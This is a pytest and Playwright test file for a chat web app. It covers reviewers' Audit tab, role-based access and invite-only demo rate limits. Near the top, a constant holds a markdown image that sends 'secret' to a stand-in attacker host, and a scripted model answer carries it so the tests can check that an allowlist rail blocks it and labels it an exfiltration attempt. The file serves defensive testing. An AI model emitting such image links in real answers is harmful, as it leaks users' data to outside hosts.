"""Reviewers and demo visitors in a real browser: the Audit tab end to end, a chatter who never sees it,
and a demo visitor with an invite who hits the per-minute limit; bad invites get the refusal page."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from tests.browser.conftest import send, shot, wait_idle
from tests.support.paths import RAILS_DIR
from tests.support.scripted_upstream import Script, ScriptedUpstream
from tests.support.service import TEST_ALLOWLIST
from tests.support.threaded_server import ThreadedServer
from webapp.store import invites
from webapp.turn.events import TurnRequest
from webapp.web.auth import hash_password

LEAK = "![logo](https://evil.example/?q=secret)"


def start_app(upstream: ScriptedUpstream, data: Path, **settings: object):
    from webapp.config import load_settings
    from webapp.upstream.profiles import get_profile
    from webapp.web.app import Upstream, build_service, create_app

    config = load_settings(
        data_dir=data, llm_url=upstream.base_url, rails=RAILS_DIR, url_allowlist=TEST_ALLOWLIST, **settings
    )
    service = build_service(
        config, Upstream(upstream.base_url), served_model=upstream.model, profile=get_profile("kimi-k2.5")
    )
    return service, ThreadedServer(create_app(config, service)).start()


@pytest.fixture(scope="module")
def review_app(browser_upstream: ScriptedUpstream, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    data = tmp_path_factory.mktemp("review")
    users = data / "users.toml"
    users.write_text(
        f'[users.rita]\nrole = "reviewer"\npassword = "{hash_password("rita-pw")}"\n'
        f'[users.alice]\nrole = "chatter"\npassword = "{hash_password("alice-pw")}"\n'
    )
    service, server = start_app(browser_upstream, data, auth_file=users)
    # A real blocked turn of alice's, through the pipeline: reasoning, then a leaking image in the answer.
    browser_upstream.push(
        Script(answer=["Sure, a warm hello. ", "Here: ", LEAK], reasoning=["Plan a lighthouse greeting."])
    )

    async def blocked_turn() -> None:
        request = TurnRequest(owner="user:alice", text="Say hello from the lighthouse", mode="thinking")
        async for _ in service.run_turn(request):
            pass

    # In a thread of its own: playwright's sync API keeps an event loop running in this one.
    with ThreadPoolExecutor(1) as pool:
        pool.submit(asyncio.run, blocked_turn()).result(timeout=60)
    yield server.url + "/"
    server.stop()


def login(browser, url: str, name: str, password: str):
    context = browser.new_context(viewport={"width": 1280, "height": 1000})
    response = context.request.post(url + "login", form={"username": name, "password": password})
    assert response.ok, response.text()
    page = context.new_page()
    page.goto(url)
    page.wait_for_selector("#input textarea", timeout=30_000)
    return context, page


def test_reviewer_filters_to_a_blocked_turn_annotates_and_exports(browser, review_app: str) -> None:
    context, page = login(browser, review_app, "rita", "rita-pw")
    assert page.url == review_app  # the page with the Audit tab is served at the same address
    page.get_by_role("tab", name="Audit").click()
    page.fill("#audit-rail textarea, #audit-rail input", "url_allowlist")
    page.fill("#audit-q textarea, #audit-q input", "lighthouse")
    page.click("#audit-search")
    page.wait_for_function("() => document.querySelector('#audit-info').innerText.includes('1 session')")
    page.locator("#audit-sessions .cell-wrap:visible", has_text="Say hello from the lighthouse").first.click()
    page.wait_for_selector("#audit-transcript", timeout=15_000)
    view = page.inner_text("#audit-view")
    assert "The model saw: #1" in view  # what the model saw for the answer
    assert "Plan a lighthouse greeting." in view  # its reasoning
    assert "BLOCKED" in view and "url_allowlist" in view and "block" in view  # the rail verdict
    assert "evil.example" in view  # the stored text, for reviewers, as plain text
    assert page.locator("#audit-view img[src*='evil.example']").count() == 0
    assert "Hash chain verified" in view
    page.click("#audit-target input")
    page.get_by_role("option", name="#2 assistant (blocked)").first.click()
    page.fill("#audit-label textarea, #audit-label input", "exfiltration attempt")
    page.fill("#audit-note textarea", "markdown image to a foreign host")
    page.click("#audit-add")
    page.wait_for_function(  # on the blocked answer, not the session
        "() => [...document.querySelectorAll('.audit-msg.assistant .audit-note')]"
        ".some(n => n.innerText.includes('exfiltration attempt'))"
    )
    page.click("#audit-export")
    page.wait_for_selector("#audit-export-link", timeout=15_000)
    href = page.get_attribute("#audit-export-link", "href")
    assert href is not None and "rail=url_allowlist" in href
    exported = context.request.get(review_app.rstrip("/") + href)
    assert exported.ok and "attachment" in exported.headers["content-disposition"]
    assert "evil.example" in exported.text() and "exfiltration" not in exported.text()
    page.locator("#audit-overview").scroll_into_view_if_needed()
    shot(page, "audit-tab")
    context.close()


def test_a_chatter_never_sees_the_audit_tab(browser, review_app: str) -> None:
    context, page = login(browser, review_app, "alice", "alice-pw")
    page.wait_for_timeout(1500)
    assert page.get_by_role("tab", name="Audit").count() == 0
    assert page.locator("#audit-sessions").count() == 0 or not page.locator("#audit-sessions").is_visible()
    assert context.request.get(review_app + "api/sessions").status == 403
    # Not hidden but absent: the page this browser was given has no audit component or event at all.
    config = context.request.get(review_app + "config")
    assert config.ok and "audit" not in config.text().lower()
    assert context.request.get(review_app + "audit/config").status == 404
    shot(page, "chatter-no-audit")
    context.close()


@pytest.fixture(scope="module")
def demo_app(browser_upstream: ScriptedUpstream, tmp_path_factory: pytest.TempPathFactory):
    data = tmp_path_factory.mktemp("demo")
    service, server = start_app(
        browser_upstream, data, demo=True, invite_only=True, demo_messages_per_minute=2
    )
    yield server.url + "/", service.store
    server.stop()


def test_demo_visitor_with_an_invite_chats_until_the_minute_limit(browser, demo_app) -> None:
    url, store = demo_app
    token, _ = invites.create_invite(store, hours=1, messages=20)
    context = browser.new_context(viewport={"width": 1100, "height": 900})
    page = context.new_page()
    page.goto(url + f"?invite={token}")
    page.wait_for_selector("#input textarea", timeout=30_000)
    assert "invite" not in page.url  # the token left the address bar
    assert page.get_by_role("tab", name="Audit").count() == 0
    for text in ("Hello there", "And again"):
        send(page, text)
        wait_idle(page)
    send(page, "One too many")
    wait_idle(page)
    assert "Try again in" in page.inner_text("#chatbot") + page.inner_text("#notice")
    shot(page, "demo-rate-limit")
    page.reload()  # the signed visitor cookie survives: the visitor's chat is still theirs
    page.wait_for_selector("#input textarea", timeout=30_000)
    page.wait_for_function(
        "() => (document.querySelector('#sessions')?.innerText || '').includes('Hello there')", timeout=15_000
    )
    with store.engine.connect() as conn:
        texts = [r[0] for r in conn.exec_driver_sql("SELECT content FROM messages WHERE role = 'user'")]
    assert "One too many" in texts  # stored although it was not answered
    context.close()


@pytest.mark.parametrize("state", ["revoked", "expired"])
def test_revoked_or_expired_invites_get_the_refusal_page(browser, demo_app, state: str) -> None:
    url, store = demo_app
    if state == "expired":
        token, _ = invites.create_invite(
            store, hours=1, messages=5, now=datetime.now(UTC) - timedelta(hours=2)
        )
    else:
        token, _ = invites.create_invite(store, hours=1, messages=5)
        invites.revoke_invite(store, token)
    context = browser.new_context(viewport={"width": 900, "height": 600})
    page = context.new_page()
    response = page.goto(url + f"?invite={token}")
    assert response is not None and response.status == 403
    text = page.inner_text("#refusal")
    assert ("expired" in text) if state == "expired" else ("withdrawn" in text)
    assert page.locator("#input").count() == 0
    shot(page, f"demo-refusal-{state}")
    page.goto(url)  # and no way round it to the chat
    assert "by invitation only" in page.inner_text("#refusal")
    context.close()
